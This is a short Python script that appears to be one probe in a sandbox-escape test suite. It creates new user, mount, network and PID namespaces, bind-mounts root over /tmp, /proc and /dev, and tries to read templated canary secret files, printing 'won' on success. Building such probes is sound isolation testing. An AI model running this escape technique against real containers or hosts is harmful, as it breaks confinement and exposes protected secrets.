# family: kernel
# tries: namespaces of its own, in which it is root, to mount what it lacks
# core: yes
import ctypes
import os

libc = ctypes.CDLL(None)
NEWNS, NEWUSER, NEWNET, NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
for flags in (NEWUSER | NEWNS | NEWNET | NEWPID, NEWUSER | NEWNS, NEWNS):
    libc.unshare(flags)
for target in ("/tmp", "/w", "/proc", "/dev"):
    os.makedirs("/tmp/x", exist_ok=True) if os.access("/tmp", os.W_OK) else None
    libc.umount2(target.encode(), 2)
    libc.mount(b"/", target.encode(), None, 4096 | 16384, None)
    libc.mount(b"none", b"/", None, 4096 | 32, None)
    for path in (
        f"{target}@CANARY@/secret",
        f"{target}/1/root@CANARY@/secret",
        "@CANARY@/secret",
        f"{target}/@PARENT@/status",
    ):
        if os.path.exists(path):
            with open(path) as file:
                print("won" if file.read() else "", flush=True)
                os._exit(0)
